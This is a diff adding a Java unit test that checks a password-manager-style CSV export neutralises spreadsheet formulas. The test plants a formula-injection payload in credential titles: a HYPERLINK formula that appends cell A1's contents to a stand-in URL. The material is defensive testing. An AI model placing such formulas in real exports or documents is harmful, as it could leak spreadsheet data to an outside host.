@@ -77,4 +77,27 @@ class HostileTextTest {
         assertThat(log.toString()).doesNotContain("Maya").contains("DataAccessException")
                 .contains("JdbcSQLIntegrityConstraintViolationException").contains("PROFILE").contains("\tat ");
     }
+
+    @Test
+    void aFormulaInACredentialTitleIsNeutralisedInTheCsvExport() throws IOException {
+        Path dataDir = root.resolve("csv-data");
+        Path plan = root.resolve("formula.json");
+        assertThat(run("--data-dir", dataDir.toString(), "export", "json", "--profile", Hostile.PROFILE, "--out",
+                plan.toString()).code()).isZero();
+        ObjectNode file = (ObjectNode) json.readTree(plan.toFile());
+        for (JsonNode credential : file.path("credentials")) {
+            ((ObjectNode) credential).put("title", "=HYPERLINK(\"http://example.invalid/\"&A1,\"open\")");
+        }
+        json.writeValue(plan.toFile(), file);
+        assertThat(run("--data-dir", dataDir.toString(), "import", plan.toString()).code()).isZero();
+        Path csv = root.resolve("compare.csv");
+
+        Hostile.Result result = run("--data-dir", dataDir.toString(), "export", "csv", "--profile", Hostile.PROFILE,
+                "--goal", file.path("profile").path("goals").get(0).path("title").asText(), "--out", csv.toString());
+
+        assertThat(result.code()).as(result.err()).isZero();
+        String text = Files.readString(csv);
+        assertThat(text).contains("HYPERLINK");
+        assertThat(text).doesNotContainPattern("(^|,|\\n)\"?=HYPERLINK");
+    }
 }
